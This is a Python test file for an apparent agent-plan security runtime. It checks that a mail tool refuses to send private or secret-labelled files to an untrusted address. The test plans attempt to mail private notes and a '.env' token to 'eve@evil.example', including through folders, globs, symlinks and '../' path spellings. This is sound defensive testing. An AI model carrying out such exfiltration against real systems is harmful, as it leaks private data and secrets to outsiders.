"""Files sent along with a call, and recipients within its arguments, judged during a run."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from tests.security.world import POLICY, World, refusal

from callsheet.ir import Effect
from callsheet.ir.labels import read_label
from callsheet.machine import Status, ToolFacts
from callsheet.policy.model import Audience, SourceRule, ToolRule
from callsheet.runtime.doubt import fold_run

MAIL = ToolRule(
    egress=True,
    destructive=False,
    idempotent=True,
    audience_arg="to",
    control=("to",),
    trusted_audience=("*@corp.example",),
)
FACTS = {
    "MAIL": ToolFacts(Effect.IDEMPOTENT, ("to", "body", "attachments")),
    "LIST": ToolFacts(Effect.READ, ()),
}
NOTES = 'S1: @READ_FILE ("notes.txt") > $n\nS2: @WRITE_FILE ("docs/x.md", $n) > $w\n'


def mailing(world: World) -> list[dict[str, Any]]:
    """Add a tool that sends mail to the world; returns the list of sent mails."""
    sent: list[dict[str, Any]] = []

    async def mail(args: dict[str, Any], context: Any) -> str:
        sent.append(args)
        return "sent"

    world.tools["MAIL"] = mail
    trusted = Audience(name="trusted", mail=("*@corp.example",))
    world.policy = replace(POLICY, tools={**POLICY.tools, "MAIL": MAIL}, audiences=(trusted,))
    world.write("notes.txt", "private")
    world.write("docs/a.md", "public")
    return sent


async def test_file_filled_by_earlier_run_is_not_sent_to_untrusted_recipient(world: World) -> None:
    sent = mailing(world)
    await world.run(NOTES, facts=FACTS)
    plan = 'S1: @MAIL (to="{}", body="hi", attachments=["{}"]) > $r ON_FAIL GOTO S2\nS2: @RESPOND ("on: $r")'
    found = refusal(await world.run(plan.format("eve@evil.example", "docs/x.md"), "second", facts=FACTS))
    assert (found.step, found.rule, found.flow) == ("S1", "flow", ("S1",))
    assert "callsheet labels" in (found.help or "")
    assert "a run has put private data into docs/x.md, which would reach" in found.message
    assert [event.type for event in world.journal.events("second")][-2:] == ["err", "end"]
    plan_hash = world.journal.find_run("second").plan_hash
    again = fold_run(world.journal, "second", world.journal.plan_of(plan_hash)).machine.result
    assert again is not None
    assert again.objection == found
    assert sent == []
    await world.run(plan.format("eve@evil.example", "docs/a.md"), "third", facts=FACTS)
    await world.run(plan.format("ann@corp.example", "docs/x.md"), "fourth", facts=FACTS)
    assert [call["to"] for call in sent] == ["eve@evil.example", "ann@corp.example"]


@pytest.mark.parametrize("path", ["docs", "docs/", "docs/*.md"])
async def test_folder_with_private_file_is_not_sent_outside(world: World, path: str) -> None:
    sent = mailing(world)
    await world.run(NOTES, facts=FACTS)
    plan = f'S1: @MAIL (to="{{}}", body="hi", attachments=["{path}"]) > $r'
    found = refusal(await world.run(plan.format("eve@evil.example"), "second", facts=FACTS))
    assert (found.step, found.rule) == ("S1", "flow")
    assert sent == []
    await world.run(plan.format("ann@corp.example"), "third", facts=FACTS)
    assert [call["to"] for call in sent] == ["ann@corp.example"]


@pytest.mark.parametrize(
    ("path", "is_sent"),
    [("docs", False), ("docs/", False), ("docs/*", False), ("docs/{a.md,deep}", False), ("docs/*.md", True)],
)
async def test_files_in_folder_count_by_what_policy_says_of_them(
    world: World, path: str, is_sent: bool
) -> None:
    sent = mailing(world)
    secret = SourceRule(kind="file", pattern="**/.env", label=read_label("T/secret"))
    world.policy = replace(world.policy, sources=(secret, *world.policy.sources))
    world.write("docs/deep/.env", "TOKEN=1")
    plan = f'S1: @MAIL (to="eve@evil.example", body="hi", attachments=["{path}"]) > $r\nS2: @RESPOND ("sent")'
    outcome = await world.run(plan, facts=FACTS)
    assert bool(sent) is is_sent
    if not is_sent:
        assert refusal(outcome).rule == "flow"
    (world.folder / "docs" / "deep" / ".env").unlink()
    await world.run(plan, "second", facts=FACTS)
    assert sent


async def test_recipient_in_one_of_many_values_is_found(world: World) -> None:
    """No call is judged by labels alone if its arguments have members."""
    sent = mailing(world)
    requests = [{"subject": "x"}, {"subject": "y", "cc": "eve@evil.example"}]

    async def listed(args: dict[str, Any], context: Any) -> Any:
        return requests

    world.tools["LIST"] = listed
    public = ToolRule(egress=False, destructive=False, idempotent=True, returns=read_label("U/pub"))
    world.policy = replace(world.policy, tools={**world.policy.tools, "LIST": public})
    plan = (
        "S1: @LIST () > $l\n"
        'S2: ?FOREACH ($x IN $l) THEN @MAIL (to="ann@corp.example", options=$x, body="hi") > $r'
    )
    outcome = await world.run(plan, facts=FACTS)
    assert outcome.result is not None
    assert outcome.result.status is Status.REFUSED
    assert outcome.result.objection is not None
    assert outcome.result.objection.rule == "control-argument"
    assert requests[1] not in [call["options"] for call in sent]


@pytest.mark.parametrize(
    "spelled", ["{f}/{n}", "file://{f}/{n}", "{f}/../{w}/./{n}", "//{f}/{n}", "{f}-link/{n}"]
)
async def test_host_path_into_workspace_is_workspace_path(world: World, spelled: str) -> None:
    sent = mailing(world)
    folder = world.folder
    folder.with_name(f"{folder.name}-link").symlink_to(folder)
    plan = 'S1: @MAIL (to="{}", body="hi", attachments=["{}"]) > $r\nS2: @RESPOND ("sent")'
    for number, (who, name, is_sent) in enumerate(
        [
            ("eve@evil.example", "notes.txt", False),
            ("eve@evil.example", "docs/a.md", True),
            ("ada@corp.example", "notes.txt", True),
        ]
    ):
        path = spelled.format(f=folder, w=folder.name, n=name)
        outcome = await world.run(plan.format(who, path), f"r{number}", facts=FACTS)
        if not is_sent:
            assert f"{path} is, or links to, a private file that would reach" in refusal(outcome).message
        assert bool(sent) is is_sent
        sent.clear()
    outside = plan.format("eve@evil.example", folder.parent / "elsewhere.txt")
    await world.run(outside, "outside", facts=FACTS)
    assert len(sent) == 1


async def test_symlink_is_its_target(world: World) -> None:
    """A checked-out folder may have symlinks, which servers follow."""
    sent = mailing(world)
    outside = world.folder.parent / "outside.txt"
    outside.write_text("of the machine")
    for name, target in (("in", "../notes.txt"), ("out", str(outside)), ("fine", "a.md"), ("up", "..")):
        (world.folder / "docs" / f"{name}.md").symlink_to(target)
    plan = 'S1: @MAIL (to="{}", body="hi", attachments=["{}"]) > $r\nS2: @RESPOND ("sent")'
    for number, path in enumerate(("docs/in.md", "docs/out.md", "docs/up.md/notes.txt")):
        outcome = await world.run(plan.format("eve@evil.example", path), f"r{number}", facts=FACTS)
        assert f"{path} is, or links to, a private file that would reach" in refusal(outcome).message
    assert sent == []
    for number, path in enumerate(("docs/fine.md", "docs/up.md/docs/a.md", "docs/gone.md")):
        await world.run(plan.format("eve@evil.example", path), f"s{number}", facts=FACTS)
    assert len(sent) == 3
